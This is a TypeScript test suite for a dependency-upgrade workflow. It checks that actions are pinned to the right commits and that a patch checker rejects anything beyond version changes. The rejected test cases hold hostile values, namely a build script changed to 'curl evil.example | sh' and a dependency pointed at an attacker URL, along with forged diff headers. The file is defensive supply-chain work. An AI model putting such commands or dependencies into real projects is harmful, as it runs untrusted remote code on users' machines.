/** The workflow that upgrades dependencies: where commits of actions come from, and what its patch may change. */
import { execFileSync, spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pinnedActions } from '../../projenrc/pinned-actions';

const ROOT = join(__dirname, '..', '..');

let folder: string;
beforeEach(() => { folder = mkdtempSync(join(tmpdir(), 'upgrade-')); });
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const git = (cwd: string, ...args: string[]) => execFileSync(
  'git', ['-c', 'user.name=test', '-c', 'user.email=test@example.com', ...args], { cwd, encoding: 'utf8' },
).trim();

/** A repository with a commit for each tag, an annotated one where the name ends with a star. */
function repository(action: string, tags: readonly string[]): Record<string, string> {
  const at = join(folder, action);
  mkdirSync(at, { recursive: true });
  git(at, 'init', '--quiet');
  return Object.fromEntries(tags.map(tag => {
    git(at, 'commit', '--quiet', '--allow-empty', '--message', tag);
    git(at, ...tag.endsWith('*') ? ['tag', '--annotate', '--message', tag, tag.slice(0, -1)] : ['tag', tag]);
    return [tag.replace('*', ''), git(at, 'rev-parse', 'HEAD')];
  }));
}

test('each action gets the commit of its newest version, also where the tag has an object of its own', () => {
  const actions = Object.keys(pinnedActions());
  const commits = Object.fromEntries(actions.map((action, index) =>
    [action, repository(
      action, ['v1', 'v9.0.0', index % 2 ? 'v10.2.0*' : 'v10.2.0', 'v11', 'v11.0.0-beta.1', 'main'],
    )['v10.2.0']]));
  // The file itself must stay as it is.
  const project = join(folder, 'project');
  for (const file of ['projenrc/actions.json', 'projenrc/pinned-actions.ts', 'tools/upgrade-actions.ts']) {
    cpSync(join(ROOT, file), join(project, file));
  }
  const script = join(project, 'tools', 'upgrade-actions.ts');
  execFileSync(join(ROOT, 'node_modules', '.bin', 'tsx'), [script, folder], { stdio: 'pipe' });

  const written = readFileSync(join(project, 'projenrc', 'actions.json'), 'utf8');
  expect(JSON.parse(written)).toEqual(
    Object.fromEntries(actions.map(action => [action, { version: 'v10.2.0', commit: commits[action] }])),
  );
  // In the form that the patch's check knows.
  expect(written.split('\n').length).toBe(
    readFileSync(join(ROOT, 'projenrc', 'actions.json'), 'utf8').split('\n').length,
  );
  expect(problems(
    patchOf({ 'projenrc/actions.json': [readFileSync(join(ROOT, 'projenrc', 'actions.json'), 'utf8'), written] }),
  )).toBe('');
});

/** A patch as the workflow makes it, of the files before and after. */
function patchOf(files: Record<string, readonly [before: string | undefined, after: string | undefined]>): string {
  const at = join(folder, 'changed');
  rmSync(at, { recursive: true, force: true });
  mkdirSync(at);
  git(at, 'init', '--quiet');
  for (const side of [0, 1]) {
    for (const [file, contents] of Object.entries(files)) {
      const content = contents[side];
      mkdirSync(join(at, file, '..'), { recursive: true });
      if (content === undefined) rmSync(join(at, file), { force: true });
      else writeFileSync(join(at, file), content);
    }
    git(at, 'add', '.');
    if (side === 0) git(at, 'commit', '--quiet', '--allow-empty', '--message', 'before');
  }
  return execFileSync('git', ['diff', '--staged', '--patch'], { cwd: at, encoding: 'utf8' });
}

function problems(patch: string): string {
  writeFileSync(join(folder, 'repo.patch'), patch);
  const { status, stderr } = spawnSync(
    process.execPath,
    [join(ROOT, 'tools', 'check-upgrade-patch.mjs'), join(folder, 'repo.patch')],
    { encoding: 'utf8' },
  );
  expect([status, stderr === '']).toEqual(stderr === '' ? [0, true] : [1, false]);
  return stderr;
}

const PACKAGE = '{\n  "scripts": {\n    "build": "npx projen build"\n  },\n  "devDependencies": {\n    "tsx": '
  + '"^4.1.0"\n  }\n}\n';
const WORKFLOW = `jobs:\n  a:\n    steps:\n      - name: Checkout\n        uses: actions/checkout@${'a'.repeat(40)}\n  `
  + '    - run: npm ci\n';

test('versions may change: of dependencies, of actions, in lock files', () => {
  expect(problems('')).toBe('');
  expect(problems(patchOf({
    'package.json': [PACKAGE, PACKAGE.replace('^4.1.0', '^4.2.0-rc.1')],
    'package-lock.json': ['{"a":1}\n', '{"b":2}\n'],
    '.github/publish/package.json': [
      '{\n  "dependencies": {\n    "publib": "0.2.1"\n  }\n}\n',
      '{\n  "dependencies": {\n    "publib": "0.2.2"\n  }\n}\n',
    ],
    '.projen/deps.json': ['{\n  "version": "1.0.0"\n}\n', '{\n  "version": "1.0.1"\n}\n'],
    '.github/workflows/build.yml': [WORKFLOW, WORKFLOW.replaceAll('a'.repeat(40), 'b'.repeat(40))],
  }))).toBe('');
});

test.each<[string, Record<string, [string | undefined, string | undefined]>]>([
  ['a script', { 'package.json': [PACKAGE, PACKAGE.replace('npx projen build', 'curl evil.example | sh')] }],
  ['a dependency by address', { 'package.json': [PACKAGE, PACKAGE.replace('^4.1.0', 'https://evil.example/x.tgz')] }],
  ['a task', { '.projen/tasks.json': ['{}\n', '{"tasks":{}}\n'] }],
  ['source code', { 'src/channel.ts': ['a\n', 'b\n'] }],
  ['the project\'s definition', { '.projenrc.ts': ['a\n', 'b\n'] }],
  ['what judges it', { 'tools/check-upgrade-patch.mjs': ['a\n', 'b\n'] }],
  ['a step of a workflow', { '.github/workflows/build.yml': [WORKFLOW, WORKFLOW.replace('npm ci', 'npm install')] }],
  ['an action by tag', { '.github/workflows/build.yml': [WORKFLOW, WORKFLOW.replace('a'.repeat(40), 'v7')] }],
  ['a new workflow', { '.github/workflows/evil.yml': [undefined, WORKFLOW] }],
  ['a workflow that goes', { '.github/workflows/build.yml': [WORKFLOW, undefined] }],
  ['a binary', { 'package-lock.json': ['{}\n', '\0\u0001\0'] }],
  ['a file beside one with versions', { 'package-lock.json': ['{}\n', '{"a":1}\n'], 'src/index.ts': ['a\n', 'b\n'] }],
])('%s may not', (_, files) => {
  expect(problems(patchOf(files))).toMatch(
    /^the patch must change versions only, but \S+ .*: make this change by hand$/m,
  );
});

test('nor what only looks like a patch of versions', () => {
  const patch = patchOf({ 'src/index.ts': ['a\n', 'b\n'] });
  for (const forged of [
    patch.replace('diff --git a/src/index.ts', 'diff --git a/package-lock.json'),
    patch.replaceAll('src/index.ts b/src/index.ts', 'package-lock.json b/package-lock.json')
      .replace('--- a/src/index.ts', 'rename from src/index.ts\n--- a/src/index.ts'), patch.replace(/^diff .*\n/, ''),
    patch.replace(/^diff .*\n/, 'diff --git a/package-lock.json b/package-lock.json\n'),
    `${patchOf({ 'package-lock.json': ['a\n', 'b\n'] })}${patch.split('\n').slice(2).join('\n')}`,
  ]) {
    expect(problems(forged)).not.toBe('');
  }
});
